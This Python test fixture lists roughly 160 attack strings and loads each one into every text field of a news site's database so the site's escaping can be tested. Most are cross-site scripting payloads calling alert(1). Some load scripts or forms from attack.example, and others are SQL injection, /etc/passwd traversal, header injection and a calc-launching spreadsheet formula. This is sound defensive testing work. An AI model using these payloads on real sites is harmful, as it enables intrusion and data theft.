"""Strings that attack pages, and a news.db that holds each of them wherever a text can stand.

They are the known ways to make a page run what a stranger wrote: tags, attributes, addresses,
Markdown, broken and nested markup, encodings, and what ends a script, a style, a JSON text,
a header, an SQL text or a path. Those that run call `alert`.
"""

import json
import sqlite3
from pathlib import Path

from tests.conftest import load

ATTACKS = [
    # Elements that run or load something.
    "<script>alert(1)</script>",
    "<SCRIPT>alert(1)</SCRIPT>",
    "<script src=https://attack.example/a.js></script>",
    "<script\n>alert(1)</script >",
    "<script/x>alert(1)</script>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<<script>alert(1);//<</script>",
    "<script>alert(1)",
    "<svg onload=alert(1)>",
    "<svg/onload=alert(1)//",
    "<svg><script>alert&#40;1)</script>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<svg><a xlink:href='javascript:alert(1)'><text y=20>x</text></a></svg>",
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    "<svg></p><style><a id='</style><img src=1 onerror=alert(1)>'>",
    "<math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<math href='javascript:alert(1)'>x</math>",
    "<img src=x onerror=alert(1)>",
    "<img src=x onerror='alert(1)'",
    '<img """><script>alert(1)</script>">',
    "<img src=`x`onerror=alert(1)>",
    "<img/src='x'/onerror=alert(1)>",
    "<img src=x:alert(1) onerror=eval(src)>",
    "<img srcset=x onerror=alert(1)>",
    "<image src=x onerror=alert(1)>",
    "<img src='https://image.example/pixel.gif'>",
    "<body onload=alert(1)>",
    "<body background='javascript:alert(1)'>",
    "<iframe src='javascript:alert(1)'></iframe>",
    "<iframe srcdoc='<script>parent.alert(1)</script>'></iframe>",
    "<frameset><frame src='javascript:alert(1)'></frameset>",
    "<object data='javascript:alert(1)'></object>",
    "<object data='data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=='></object>",
    "<embed src='javascript:alert(1)'>",
    "<applet code='javascript:alert(1)'></applet>",
    "<video><source onerror=alert(1)></video>",
    "<video src=x onerror=alert(1)>",
    "<audio src=x onerror=alert(1)>",
    "<details open ontoggle=alert(1)>x</details>",
    "<marquee onstart=alert(1)>x</marquee>",
    "<input autofocus onfocus=alert(1)>",
    "<select autofocus onfocus=alert(1)></select>",
    "<textarea autofocus onfocus=alert(1)></textarea>",
    "<button formaction='javascript:alert(1)' autofocus>x</button>",
    "<form action='javascript:alert(1)'><input type=submit></form>",
    "<form action='https://attack.example/'><input name=password></form>",
    "<isindex type=image src=1 onerror=alert(1)>",
    "<keygen autofocus onfocus=alert(1)>",
    "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>",
    "<meta http-equiv=refresh content='0;url=https://attack.example/'>",
    "<link rel=stylesheet href='https://attack.example/a.css'>",
    "<link rel=import href='https://attack.example/a.html'>",
    "<base href='https://attack.example/'>",
    "<style>@import 'https://attack.example/a.css';</style>",
    "<style>body{background:url('javascript:alert(1)')}</style>",
    "<div style='background:url(javascript:alert(1))'>x</div>",
    "<div style='width:expression(alert(1))'>x</div>",
    "<div style='position:fixed;inset:0;z-index:9'>x</div>",
    "<p onmouseover=alert(1) style=font-size:99em>x</p>",
    "<x onclick=alert(1) tabindex=0 autofocus onfocus=alert(1)>x",
    "<xss id=x tabindex=1 onfocus=alert(1)></xss>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<template><script>alert(1)</script></template>",
    "<title></title><script>alert(1)</script>",
    "<textarea></textarea><script>alert(1)</script>",
    "<xmp><script>alert(1)</script></xmp>",
    "<plaintext><script>alert(1)",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?xml version='1.0'?><script xmlns='http://www.w3.org/1999/xhtml'>alert(1)</script>",
    "<!--><script>alert(1)</script>-->",
    "<!-- --!><img src=x onerror=alert(1)>",
    "<a href='javascript:alert(1)'>x</a>",
    "<a href='java\tscript:alert(1)'>x</a>",
    "<a href='&#106;avascript:alert(1)'>x</a>",
    "<a href=' javascript:alert(1)'>x</a>",
    "<a href='vbscript:msgbox(1)'>x</a>",
    "<a href='data:text/html,<script>alert(1)</script>'>x</a>",
    "<a href='https://attack.example' target=_blank ping='https://attack.example/p'>x</a>",
    # Out of an attribute, a script, a title, a JSON text.
    '"><script>alert(1)</script>',
    "'><script>alert(1)</script>",
    '" onmouseover="alert(1)" autofocus onfocus="alert(1)',
    "' onmouseover='alert(1)' autofocus onfocus='alert(1)",
    "` onmouseover=alert(1) `",
    "x onerror=alert(1)",
    '"/><img src=x onerror=alert(1)>',
    "--></script><script>alert(1)</script>",
    '</script><script>alert(1)</script>{"a":"',
    "</title><svg onload=alert(1)>",
    "</style><script>alert(1)</script>",
    "</textarea><script>alert(1)</script>",
    '"}]}</script><img src=x onerror=alert(1)>',
    "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e",
    '\\"-alert(1)}//',
    "${alert(1)}",
    "{{ 7*7 }}{% for x in ().__class__.__base__.__subclasses__() %}{{ x }}{% endfor %}",
    "{{constructor.constructor('alert(1)')()}}",
    "<%= 7*7 %><?php echo 7*7 ?>",
    # Markdown.
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](javascript&#58;alert(1))",
    "[x](&#x6A;avascript:alert(1))",
    "[x](java%0ascript:alert(1))",
    "[x]( javascript:alert(1))",
    "[x](<javascript:alert(1)>)",
    "[x](\\javascript:alert(1))",
    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[x](vbscript:msgbox(1))",
    "[x](file:///etc/passwd)",
    "[x](blob:https://attack.example/1)",
    "![x](javascript:alert(1))",
    "![x](data:image/svg+xml,<svg onload=alert(1)>)",
    '![x"onerror="alert(1)](https://image.example/x.png)',
    '![x](https://image.example/"onerror="alert(1))',
    "![x](https://image.example/x.png 'x\" onerror=\"alert(1)')",
    "[x](https://example.com \"x' onmouseover='alert(1)\")",
    "[x]: javascript:alert(1)\n\n[x]",
    "<javascript:alert(1)>",
    '<https://example.com/"onmouseover="alert(1)>',
    "[<script>alert(1)</script>](https://example.com)",
    "`<script>alert(1)</script>`",
    "```\n</code></pre><script>alert(1)</script>\n```",
    '```"><script>alert(1)</script>\nx\n```',
    "| <script>alert(1)</script> |\n| --- |\n| <img src=x onerror=alert(1)> |",
    "# <script>alert(1)</script>",
    "**<script>alert(1)</script>**",
    # Characters.
    "\u2028alert(1)\u2029",
    "\u202e<script>alert(1)</script>",
    "＜script＞alert(1)＜/script＞",
    "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
    "%3Cscript%3Ealert(1)%3C/script%3E",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    "&amp;lt;script&amp;gt;alert(1)",
    "\ufeff<script>alert(1)</script>",
    "\x0b<script>alert(1)</script>",
    # SQL, paths, headers, file names.
    "'; drop table posts; --",
    "' or '1'='1",
    '" or ""="',
    "1 union select sql from sqlite_master",
    "../../../../etc/passwd",
    "..%2f..%2fetc%2fpasswd",
    "..",
    ".",
    "a/b?c=d#e",
    "%00",
    "%",
    "~2F",
    "x\r\nSet-Cookie: a=b\r\n\r\n<script>alert(1)</script>",
    "*",
    "?lang=en",
    "=cmd|'/c calc'!A1",
]


def attacked(folder: Path) -> Path:
    """Load a post for each attack, put the attack as it is into all its texts, and return the file.

    Posts have the ids from 1 on, in the order of the attacks.
    """
    posts = folder / "_posts"
    posts.mkdir()
    for number in range(len(ATTACKS)):
        name = f"2022-01-{number % 28 + 1:02}-{number:03}.md"
        front = f'---\ntitle: "{number}"\ndate: 2022-01-{number % 28 + 1:02}\n---\n\n正文{number}\n'
        (posts / name).write_text(front, encoding="utf-8")
    database = load(folder, folder / "news.db")
    connection = sqlite3.connect(database)
    with connection:
        ids = connection.execute("select id from posts order by title + 0").fetchall()
        for number, ((post,), attack) in enumerate(zip(ids, ATTACKS, strict=True), 1):
            _put(connection, post, number, attack)
    connection.close()
    return database


def _put(connection: sqlite3.Connection, post: int, key: int, attack: str) -> None:
    """Put an attack into everything that belongs to a post, past all that the loaders clean."""
    put = connection.execute
    for table in ("sources", "authors", "tags", "categories"):
        columns, marks = (
            ("id, name, slug", "?, ?, ?") if table == "sources" else ("id, name", "?, ?")
        )
        values = (key, attack, attack)[: marks.count("?")]
        put(f"insert into {table} ({columns}) values ({marks})", values)
    put("insert into post_authors values (?, ?, 1)", (post, key))
    put("insert into post_tags (post_id, tag_id) values (?, ?)", (post, key))
    put("insert into post_categories values (?, ?)", (post, key))
    put(
        "insert into securities (code, name, kind, market, url, posts, mentions) "
        "values (?, ?, 'share', ?, ?, 1, 1)",
        (attack, attack, attack, attack),
    )
    put(
        "insert into security_names (code, name, initials, posts) values (?, ?, ?, 1)",
        (attack, attack, attack),
    )
    put(
        "insert into security_names (code, name, initials, posts) values (?, ?, ?, 1)",
        (attack, f"{attack} 2", attack),
    )
    put(
        "insert into security_months (code, month, posts, mentions) values (?, '2022-01', 1, 1)",
        (attack,),
    )
    put(
        "insert into post_securities (post_id, code, name, mentions, in_title) "
        "values (?, ?, ?, 1, 0)",
        (post, attack, attack),
    )
    put(
        "insert into images (post_id, position, url, alt) values (?, 1, ?, ?)",
        (post, attack, attack),
    )
    put(
        "update posts set slug = ?, title = ?, source_id = ?, url = ?, summary = ?, path = ?, "
        "body = ? where id = ?",
        (attack, attack, key, attack, attack, attack, f"正文。\n\n{attack}\n\n末段{attack}", post),
    )


def quoted(attack: str) -> str:
    """Return an attack as a JSON text, to stand in messages."""
    return json.dumps(attack, ensure_ascii=False)
